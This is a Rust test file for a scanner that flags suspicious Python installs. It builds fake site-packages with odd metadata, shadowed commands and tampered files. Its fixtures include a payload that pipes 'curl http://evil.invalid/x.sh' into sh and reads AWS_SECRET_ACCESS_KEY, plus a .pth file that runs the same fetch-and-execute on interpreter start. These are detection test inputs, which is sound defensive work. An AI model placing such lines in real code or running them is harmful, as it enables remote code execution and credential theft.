//! The whole-host findings scan reads a site of plain `.dist-info`
//! directories lightly (findings/site_view.rs: METADATA only for a row,
//! no INSTALLER/REQUESTED/direct_url.json) and any other site the full
//! way. These tests check that the light reading gives the rows the full
//! one gives, and that odd metadata still gives sensible rows.

mod common;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use common::FakeHost;
use squatch::table::{QueryContext, Row, Table};
use squatch::tables::python_install_findings::PythonInstallFindings;

const PAYLOAD: &str = "import os\nos.system(\"curl -s http://evil.invalid/x.sh | sh\")\ntoken = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\n";

fn rows(fh: &FakeHost) -> Vec<Row> {
    PythonInstallFindings::new(Arc::new(fh.host()))
        .generate(&QueryContext::all())
        .unwrap()
}

/// Each row as `path|package|rule_id|evidence|description|status`, sorted.
fn lines(rows: &[Row]) -> Vec<String> {
    let mut v: Vec<String> = rows
        .iter()
        .map(|r| {
            [
                "path",
                "package",
                "rule_id",
                "evidence",
                "description",
                "status",
            ]
            .iter()
            .map(|c| r.get(c).unwrap_or("-").to_string())
            .collect::<Vec<_>>()
            .join("|")
        })
        .collect();
    v.sort();
    v
}

fn mkfifo(fh: &FakeHost, host_path: &Path) {
    let real = fh.real(host_path);
    let _ = std::fs::remove_file(&real);
    let c = std::ffi::CString::new(real.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: `c` is a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
}

/// A site of plain `.dist-info` directories with odd metadata, tampering
/// and shadowing.
fn odd_site(fh: &FakeHost) -> PathBuf {
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    let site = fh.venv("/home/alice/proj/.venv", "3.12", false);
    // No METADATA at all.
    fh.dist(&site, "no-meta", "1.0")
        .file("no_meta/__init__.py", PAYLOAD)
        .no_metadata()
        .write();
    // METADATA a FIFO: never opened, the directory name decides.
    let fifo = fh
        .dist(&site, "fifo-meta", "1.0")
        .file("fifo_meta/__init__.py", PAYLOAD)
        .write();
    mkfifo(fh, &fifo.meta("METADATA"));
    // A Name but no Version: the directory name decides.
    fh.dist(&site, "half-meta", "2.0")
        .file("half_meta/__init__.py", PAYLOAD)
        .metadata_raw("Metadata-Version: 2.1\nName: Something-Else\n")
        .write();
    // Binary junk.
    fh.dist(&site, "junk-meta", "3.0")
        .file("junk_meta/core.py", PAYLOAD)
        .metadata_raw(b"\xff\xfe\x00Name\x00: \xc3\x28\n\n")
        .write();
    // METADATA's name differs from the directory's: the row says METADATA's.
    fh.dist(&site, "Real.Name", "1.0")
        .file("real_name/__init__.py", PAYLOAD)
        .dir_name("dir_name-1.0.dist-info")
        .write();
    // A console script over `ls`, and two owners of one import name (one
    // of them without top_level.txt: told from RECORD).
    fh.dist(&site, "shadow-ls", "1.0")
        .file("shadow_ls/cli.py", "def main():\n    pass\n")
        .entry_points("[console_scripts]\nls = shadow_ls.cli:main\n")
        .write();
    fh.dist(&site, "owner-a", "1.0")
        .file("shared_name/__init__.py", "x = 1\n")
        .top_level(&["shared_name"])
        .write();
    fh.dist(&site, "owner-b", "1.0")
        .file("shared_name/extra.py", "y = 2\n")
        .write();
    // Tampering: a modified file, a dropped one, a FIFO where a .py was.
    let t = fh
        .dist(&site, "tampered", "1.0")
        .file("tampered/__init__.py", "x = 1\n")
        .file("tampered/mod.py", "y = 1\n")
        .file("tampered/gone.py", "z = 1\n")
        .write();
    fh.modify(&t.file("tampered/mod.py"), PAYLOAD);
    fh.add_unrecorded(&site.join("tampered/dropped.py"), PAYLOAD);
    mkfifo(fh, &t.file("tampered/gone.py"));
    // top_level.txt and entry_points.txt as a FIFO and a directory.
    let odd = fh
        .dist(&site, "odd-files", "1.0")
        .file("odd_files/__init__.py", PAYLOAD)
        .top_level(&["odd_files"])
        .entry_points("[console_scripts]\nsudo = odd_files:main\n")
        .write();
    mkfifo(fh, &odd.meta("top_level.txt"));
    std::fs::remove_file(fh.real(&odd.meta("entry_points.txt"))).unwrap();
    fh.mkdir(odd.meta("entry_points.txt"));
    fh.pth(
        &site,
        "zz_evil.pth",
        "import os; os.system('curl http://evil.invalid | sh')\n",
    );
    site
}

#[test]
fn odd_metadata_still_gives_rows_named_sensibly() {
    let fh = FakeHost::new();
    odd_site(&fh);
    let rows = rows(&fh);
    let pkg = |path_part: &str| -> Vec<String> {
        let mut v: Vec<String> = rows
            .iter()
            .filter(|r| r.get("path").is_some_and(|p| p.contains(path_part)))
            .map(|r| r.get("package").unwrap_or("").to_string())
            .collect();
        v.dedup();
        v
    };
    // Scanned, and named after the directory when METADATA cannot say.
    assert_eq!(pkg("/no_meta/"), vec!["no_meta"]);
    assert_eq!(pkg("/fifo_meta/"), vec!["fifo_meta"]);
    assert_eq!(pkg("/half_meta/"), vec!["half_meta"]);
    assert_eq!(pkg("/junk_meta/"), vec!["junk_meta"]);
    // METADATA's own name when it gives name and version.
    assert_eq!(pkg("/real_name/"), vec!["Real.Name"]);
    let rule = |id: &str| -> Vec<&Row> {
        rows.iter()
            .filter(|r| r.get("rule_id") == Some(id))
            .collect()
    };
    assert!(rule("entry-point-shadows-command")
        .iter()
        .any(|r| r.get("package") == Some("shadow-ls")));
    let shadowing = rule("import-name-shadowing");
    assert!(
        shadowing.iter().any(|r| r.get("package") == Some("owner-a")
            && r.get("description").is_some_and(|d| d.contains("owner-b"))),
        "{shadowing:?}"
    );
    assert!(rule("record-hash-mismatch").iter().any(|r| r
        .get("path")
        .is_some_and(|p| p.ends_with("tampered/mod.py"))));
    assert!(rule("unrecorded-file").iter().any(|r| r
        .get("path")
        .is_some_and(|p| p.ends_with("tampered/dropped.py"))));
    assert!(!rule("dl-shell-pipe").is_empty());
}

#[test]
fn the_light_reading_gives_the_rows_of_the_full_reading() {
    let fh = FakeHost::new();
    let site = odd_site(&fh);
    let light = lines(&rows(&fh));
    // An egg-info distribution makes the whole site read the full way; its
    // own rows aside, every row must be the same.
    fh.dist(&site, "legacy", "0.1")
        .file("legacy_mod.py", "x = 1\n")
        .egg_info()
        .write();
    let full: Vec<String> = lines(&rows(&fh))
        .into_iter()
        .filter(|l| !l.contains("legacy"))
        .collect();
    assert!(light.len() > 15, "{light:#?}");
    assert_eq!(light, full);
}

#[test]
fn a_record_digest_too_short_to_quote_is_a_row_not_a_failed_table() {
    let fh = FakeHost::new();
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    let site = fh.venv("/home/alice/proj/.venv", "3.12", false);
    let d = fh
        .dist(&site, "shorty", "1.0")
        .file("shorty/__init__.py", "x = 1\n")
        .write();
    // RECORD gives a digest of 3 bytes ("AAAA"): still a mismatch.
    let record = d.meta("RECORD");
    let text = std::fs::read_to_string(fh.real(&record)).unwrap();
    let text = text.replace(
        &text
            .lines()
            .find(|l| l.starts_with("shorty/__init__.py"))
            .unwrap()
            .to_string(),
        "shorty/__init__.py,sha256=AAAA,6",
    );
    fh.modify(&record, text);
    let rows = rows(&fh);
    let hit = rows
        .iter()
        .find(|r| r.get("rule_id") == Some("record-hash-mismatch"))
        .expect("a mismatch row");
    assert!(
        hit.get("evidence")
            .is_some_and(|e| e.starts_with("RECORD sha256 000000…")),
        "{hit:?}"
    );
}
